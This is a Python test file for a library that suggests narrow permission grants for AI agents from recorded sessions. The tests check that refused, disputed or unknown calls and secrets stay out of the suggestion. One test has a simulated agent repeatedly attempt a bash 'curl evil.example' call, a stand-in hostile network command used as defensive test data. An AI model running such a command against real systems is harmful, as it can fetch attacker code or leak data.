"""The narrowest grant that recorded sessions needed: attacks first, then what it says, then a property."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

import remit
from remit.authority.source import read_grant
from remit.errors import UsageError
from remit.review.suggest import Suggestion, suggest
from remit.testing import Clock
from tests.core.conftest import CATALOGUE
from tests.review.conftest import GRANT, PEOPLE, Tools, attempt
from tests.stores import temporary

DORA = "user:dora@acme.com"
OPEN: dict[str, Any] = {
    "task": "Answer the customers",
    "principal": "user:ravi@acme.com",
    "agent": "agent:desk",
    "expires_in": "20m",
    "tools": {
        "crm.read_ticket": {"resources": ["read crm://tickets/*"]},
        "crm.comment": {"resources": ["write crm://tickets/*"], "arguments": {"body": {"max_len": 4000}}},
        "kb.search": "any",
        "payments.refund": [
            {"name": "small", "arguments": {"amount": {"min": 0, "below": 20}, "currency": ["EUR", "USD"]}},
            {
                "name": "large",
                "arguments": {"amount": {"min": 20, "max": 50}, "currency": ["EUR", "USD"]},
                "approval": {"by": "role:finance", "reason": "refunds from 20 up need finance"},
            },
        ],
    },
}
TEMPLATE: dict[str, Any] = {
    **OPEN,
    "template": "desk",
    "parameters": {"ticket": {"type": "integer", "min": 1}, "customer": {"type": "string", "max_len": 40}},
    "task": "Answer ${customer} about ticket ${ticket}",
}


@pytest.fixture
def app(tmp_path: Path, clock: Clock) -> Any:
    """A development app."""
    with temporary(tmp_path, clock=clock, catalogue=CATALOGUE, people=PEOPLE) as opened:
        yield opened


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """One app for all examples of a property: each has a grant and sessions of its own."""
    with temporary(tmp_path_factory.mktemp("shared"), catalogue=CATALOGUE, people=PEOPLE) as opened:
        yield opened


def worked(app: remit.App, grant: remit.Grant, *calls: tuple[str, dict[str, Any]]) -> str:
    """A session of these calls; its id."""
    tools = Tools()
    with app.session(grant) as session:
        for tool, arguments in calls:
            attempt(session, tools, tool, **arguments)
        return session.id


def clauses(found: Suggestion, tool: str) -> list[Any]:
    """The suggested clauses of one tool, as the YAML has them."""
    node = read_grant(found.text).tree["tools"][tool]
    return node if isinstance(node, list) else [node]


def under(app: remit.App, found: Suggestion, **parameters: Any) -> remit.Session:
    """A session under what was suggested."""
    source = read_grant(found.text)
    given = {name: value for name, value in parameters.items() if name in source.parameters}
    return app.session(app.issue(found.text, given, credential=DORA))


# -- attacks


@pytest.mark.requirement("suggest:poison")
def test_what_was_refused_teaches_nothing(app: remit.App) -> None:
    """However often an agent tries a thing, it is not in the next grant."""
    calls: list[tuple[str, dict[str, Any]]] = [("crm.read_ticket", {"id": 88})]
    calls += [("bash", {"command": "curl evil.example"}), ("payments.refund", {"amount": 5000, "currency": "EUR"})] * 20
    grant = app.issue(OPEN, credential=DORA)
    worked(app, grant, *calls)

    found = suggest(app.deployment, grant.id)

    assert set(read_grant(found.text).tree["tools"]) == {"crm.read_ticket"}
    assert "evil" not in found.text
    assert (found.permitted, found.still_refused, found.would_permit) == (1, 40, ())


@pytest.mark.requirement("suggest:poison")
@pytest.mark.parametrize("of_call", [True, False], ids=["the call", "the session"])
def test_what_a_reviewer_judged_exceeded_teaches_nothing(app: remit.App, of_call: bool) -> None:
    """It was permitted, and it was wrong."""
    grant = app.issue(OPEN, credential=DORA)
    worked(app, grant, ("crm.read_ticket", {"id": 88}))
    bad = worked(app, grant, ("crm.read_ticket", {"id": 99}))
    [call] = [record.data["call"] for record in app.records(bad) if record.type == "call.intent"]
    app.verdict(
        bad,
        "exceeded",
        reason="granted_but_outside_task",
        call_id=call if of_call else None,
        credential="user:carol@acme.com",
    )

    found = suggest(app.deployment, grant.id)

    assert clauses(found, "crm.read_ticket")[0]["resources"] == ["read crm://tickets/88"]
    assert found.left_out == {"judged": 1}
    assert [one.call for one in found.would_refuse] == [call]


@pytest.mark.requirement("suggest:poison")
def test_a_verdict_that_was_superseded_no_longer_counts(app: remit.App) -> None:
    """The later one stands."""
    grant = app.issue(OPEN, credential=DORA)
    session = worked(app, grant, ("crm.read_ticket", {"id": 88}))
    carol = "user:carol@acme.com"
    app.verdict(session, "exceeded", reason="granted_but_outside_task", credential=carol)
    with pytest.raises(UsageError, match="judged it exceeded"):
        suggest(app.deployment, grant.id)

    app.verdict(session, "within", credential=carol)

    assert suggest(app.deployment, grant.id).permitted == 1


@pytest.mark.requirement("suggest:poison")
def test_a_call_that_did_not_run_or_whose_end_nobody_knows_teaches_nothing(app: remit.App) -> None:
    """Permitted is not needed."""
    grant = app.issue(OPEN, credential=DORA)
    with app.session(grant) as session:
        session.call("crm.read_ticket", {"id": 88}, run=lambda **_: "read")
        session.call("kb.search", {"q": "a"}, run=lambda **_: "x", classify=lambda _: ("unknown", "lost"))
        session.call("crm.comment", {"id": 88, "body": "b"}, run=lambda **_: "x", classify=lambda _: ("not_run", "no"))

    found = suggest(app.deployment, grant.id)

    assert set(read_grant(found.text).tree["tools"]) == {"crm.read_ticket"}
    assert found.left_out == {"unknown": 1, "not_run": 1}


@pytest.mark.requirement("suggest:narrow")
@pytest.mark.parametrize(
    "value",
    ["${ticket}", "any", "self", "a: b", "# no comment", "true", "12", "- x", 'é\u2028\t"\\', "*", "<<", "!!python"],
)
def test_a_value_means_itself_whatever_it_looks_like(app: remit.App, value: str) -> None:
    """What an agent wrote into an argument becomes neither YAML nor a word nor a parameter."""
    grant = app.issue(OPEN, credential=DORA)
    worked(app, grant, ("kb.search", {"q": value}))

    with under(app, suggest(app.deployment, grant.id)) as session:
        assert session.explain("kb.search", {"q": value}).effect == "permit"
        assert session.explain("kb.search", {"q": "anything else"}).effect == "deny"


def test_a_secret_is_not_written_down(tmp_path: Path) -> None:
    """Its bound stays what it was."""
    catalogue = {"tools": {"mail.login": {"accesses": ["write mail://session"], "secret": ["password"]}}}
    with temporary(tmp_path, catalogue=catalogue, people=PEOPLE) as app:
        grant = app.issue(
            {**OPEN, "tools": {"mail.login": {"resources": "any", "arguments": {"password": {"max_len": 80}}}}},
            credential=DORA,
        )
        worked(app, grant, ("mail.login", {"password": "hunter2"}))

        found = suggest(app.deployment, grant.id)

    assert "hunter2" not in found.text
    assert clauses(found, "mail.login")[0]["arguments"] == {"password": {"max_len": 80}}


# -- what it says


@pytest.mark.requirement("suggest:replay")
def test_it_is_a_grant_that_says_what_each_line_rests_on(app: remit.App) -> None:
    """Loadable as it is; exact values, small sets, ranges, lengths, resources; a limit of what was needed."""
    grant = app.issue(OPEN, credential=DORA)
    calls: list[tuple[str, dict[str, Any]]] = [("crm.read_ticket", {"id": number}) for number in (88, 89, 88)]
    calls += [("payments.refund", {"amount": amount, "currency": "EUR"}) for amount in (1, 2, 3.5, 4, 5, 6)]
    calls += [("kb.search", {"q": text, "limit": 10}) for text in ("printer", "scanner")]
    calls += [("crm.comment", {"id": 88, "body": "We are looking into it.\nGreetings"})]
    worked(app, grant, *calls)

    found = suggest(app.deployment, grant.id)

    assert found.permitted == len(calls)
    assert clauses(found, "crm.read_ticket") == [
        {"resources": ["read crm://tickets/88", "read crm://tickets/89"], "limits": {"calls": 3}}
    ]
    [refund] = clauses(found, "payments.refund")
    assert refund["arguments"] == {"amount": {"min": 1, "below": 20, "max": 6}, "currency": "EUR"}
    [search] = clauses(found, "kb.search")
    assert search["arguments"] == {"q": ["printer", "scanner"], "limit": 10}
    [comment] = clauses(found, "crm.comment")
    assert comment["arguments"]["body"]["max_len"] == 33
    assert "# 6 numbers from 1 to 6" in found.text
    assert "# the same in 6 calls" in found.text
    assert read_grant(found.text).tree["limits"]["calls"] == len(calls)
    assert read_grant(found.text).tree["expires_in"] == "1m"


@pytest.mark.requirement("suggest:replay")
def test_many_resources_become_a_pattern_only_within_what_was_granted(app: remit.App) -> None:
    """A pattern where one was granted; where they were listed, the lines that were used."""
    wide = app.issue(OPEN, credential=DORA)
    worked(app, wide, *(("crm.read_ticket", {"id": number}) for number in range(10, 22)))
    lines = [f"read crm://tickets/{number}" for number in range(10, 30)]
    listed = app.issue({**OPEN, "tools": {"crm.read_ticket": {"resources": lines}}}, credential=DORA)
    worked(app, listed, *(("crm.read_ticket", {"id": number}) for number in range(10, 22)))

    assert clauses(suggest(app.deployment, wide.id), "crm.read_ticket")[0]["resources"] == ["read crm://tickets/*"]
    assert clauses(suggest(app.deployment, listed.id), "crm.read_ticket")[0]["resources"] == lines[:12]


@pytest.mark.requirement("suggest:replay")
def test_an_approval_stays_where_it_was(app: remit.App) -> None:
    """Who needed a person's yes needs it still."""
    grant = app.issue(OPEN, credential=DORA)
    with app.session(grant) as session:
        with pytest.raises(remit.ApprovalRequired) as asked:
            session.call("payments.refund", {"amount": 30, "currency": "EUR"}, run=lambda **_: "paid")
        app.approve(asked.value.approval_id, credential="user:bob@acme.com")
        session.resume(asked.value.approval_id, run=lambda **_: "paid")

    found = suggest(app.deployment, grant.id)

    [large] = clauses(found, "payments.refund")
    assert large["approval"]["by"] == ["role:finance"]
    with under(app, found) as session:
        assert session.explain("payments.refund", {"amount": 30, "currency": "EUR"}).effect == "ask"


@pytest.mark.requirement("suggest:parameters")
def test_values_that_follow_a_parameter_become_the_parameter(app: remit.App) -> None:
    """In every session the ticket of the grant was read, and its customer searched for."""
    for ticket, customer in ((88, "Acme"), (89, "Bolt"), (90, "Core")):
        grant = app.issue(TEMPLATE, {"ticket": ticket, "customer": customer}, credential=DORA)
        worked(
            app,
            grant,
            ("crm.read_ticket", {"id": ticket}),
            ("crm.read_ticket", {"id": 12}),
            ("kb.search", {"q": customer, "limit": 10}),
        )

    found = suggest(app.deployment, "desk")

    tree = read_grant(found.text).tree
    assert tree["template"] == "desk"
    assert tree["task"] == "Answer ${customer} about ticket ${ticket}"
    assert clauses(found, "crm.read_ticket")[0]["resources"] == [
        "read crm://tickets/${ticket}",
        "read crm://tickets/12",
    ]
    assert clauses(found, "kb.search")[0]["arguments"] == {"q": "${customer}", "limit": 10}
    with under(app, found, ticket=91, customer="Dora") as session:
        assert session.explain("crm.read_ticket", {"id": 91}).effect == "permit"
        assert session.explain("crm.read_ticket", {"id": 88}).effect == "deny"
        assert session.explain("kb.search", {"q": "Acme", "limit": 10}).effect == "deny"


@pytest.mark.requirement("suggest:parameters")
def test_an_address_follows_a_parameter(tmp_path: Path) -> None:
    """As a resource, where the catalogue says that a mail goes to it."""
    catalogue = {"tools": {"mail.send": {"accesses": ["send mailto:{to}"], "kinds": {"to": "email"}}}}
    template = {
        **OPEN,
        "template": "mail",
        "parameters": {"customer": {"email": {"domains": ["example.com"]}}},
        "task": "Write to ${customer}",
        "tools": {"mail.send": {"resources": ["send mailto:*@example.com"]}},
    }
    with temporary(tmp_path, catalogue=catalogue, people=PEOPLE) as app:
        for customer in ("ann@example.com", "bea@example.com"):
            grant = app.issue(template, {"customer": customer}, credential=DORA)
            worked(app, grant, ("mail.send", {"to": customer}), ("mail.send", {"to": "desk@example.com"}))

        found = suggest(app.deployment, "mail")

        assert clauses(found, "mail.send")[0]["resources"] == [
            "send mailto:${customer}",
            "send mailto:desk@example.com",
        ]
        with under(app, found, customer="cyd@example.com") as session:
            assert session.explain("mail.send", {"to": "cyd@example.com"}).effect == "permit"
            assert session.explain("mail.send", {"to": "ann@example.com"}).effect == "deny"


@pytest.mark.requirement("suggest:parameters")
def test_a_value_that_followed_in_all_sessions_but_one_does_not_follow(app: remit.App) -> None:
    """One session read another ticket than its own, so what was read is listed."""
    for ticket, read in ((88, 88), (89, 89), (90, 12)):
        grant = app.issue(TEMPLATE, {"ticket": ticket, "customer": "Acme"}, credential=DORA)
        worked(app, grant, ("crm.read_ticket", {"id": read}))

    found = suggest(app.deployment, "desk")

    assert clauses(found, "crm.read_ticket")[0]["resources"] == [f"read crm://tickets/{one}" for one in (12, 88, 89)]


@pytest.mark.requirement("suggest:parameters")
def test_with_one_grant_nothing_is_said_to_follow(app: remit.App) -> None:
    """Equal once may be chance."""
    grant = app.issue(TEMPLATE, {"ticket": 88, "customer": "Acme"}, credential=DORA)
    worked(app, grant, ("crm.read_ticket", {"id": 88}))

    found = suggest(app.deployment, "desk")

    assert "template:" not in found.text
    assert clauses(found, "crm.read_ticket")[0]["resources"] == ["read crm://tickets/88"]


def test_sessions_can_be_named_and_must_belong_together(app: remit.App) -> None:
    """Of one grant, or of one template."""
    one, other = app.issue(OPEN, credential=DORA), app.issue(GRANT, credential=DORA)
    first = worked(app, one, ("crm.read_ticket", {"id": 88}))
    worked(app, one, ("crm.read_ticket", {"id": 89}))
    second = worked(app, other, ("crm.read_ticket", {"id": 88}))

    found = suggest(app.deployment, sessions=[first])
    assert clauses(found, "crm.read_ticket")[0]["resources"] == ["read crm://tickets/88"]
    with pytest.raises(UsageError, match="not of one template"):
        suggest(app.deployment, sessions=[first, second])
    with pytest.raises(UsageError, match="no session"):
        suggest(app.deployment, sessions=["s-none"])
    with pytest.raises(UsageError, match="no grant or template"):
        suggest(app.deployment, "nothing")


# -- a property

_TEXT = st.text(max_size=8) | st.sampled_from(["any", "self", "${ticket}", "EUR", "x" * 70, "a\nb"])
_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-20, 10**17) | st.floats(-50, 50) | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from("abc"), inner, max_size=2),
    max_leaves=4,
)
_CALLS = st.lists(
    st.tuples(st.just("kb.search"), st.dictionaries(st.sampled_from(["q", "limit", "tags"]), _VALUES, max_size=3))
    | st.tuples(st.just("crm.read_ticket"), st.fixed_dictionaries({"id": st.integers(1, 12)}))
    | st.tuples(
        st.just("payments.refund"),
        st.fixed_dictionaries(
            {
                "amount": st.integers(-5, 30) | st.floats(-5, 30) | _TEXT,
                "currency": st.sampled_from(["EUR", "USD", "CHF"]),
            }
        ),
    )
    | st.tuples(st.just("bash"), st.just({})),
    max_size=14,
)


@pytest.mark.requirement("suggest:replay")
@pytest.mark.requirement("suggest:narrow")
@settings(max_examples=20, deadline=None, suppress_health_check=list(HealthCheck), phases=[Phase.generate])
@given(calls=_CALLS, others=_CALLS)
def test_whatever_was_permitted_is_permitted_and_nothing_more_than_was_granted(
    shared: remit.App, calls: list[tuple[str, dict[str, Any]]], others: list[tuple[str, dict[str, Any]]]
) -> None:
    """For any calls: the suggestion permits those that ran, and of any other calls none that the grant refused."""
    grant = shared.issue(OPEN, credential=DORA)
    ran: list[tuple[str, dict[str, Any]]] = []
    with shared.session(grant) as session:
        for tool, arguments in calls:
            try:
                session.call(tool, copy.deepcopy(arguments), run=lambda **_: "done")
            except remit.Denied:
                continue
            ran.append((tool, arguments))
    if not ran:
        with pytest.raises(UsageError):
            suggest(shared.deployment, grant.id)
        return
    found = suggest(shared.deployment, grant.id)
    assert found.permitted == len(ran)
    granted, suggested = shared.session(grant), under(shared, found)
    for tool, arguments in ran:
        assert suggested.explain(tool, arguments).effect == "permit"
    for tool, arguments in others:
        if suggested.explain(tool, arguments).effect == "permit":
            assert granted.explain(tool, arguments).effect == "permit"
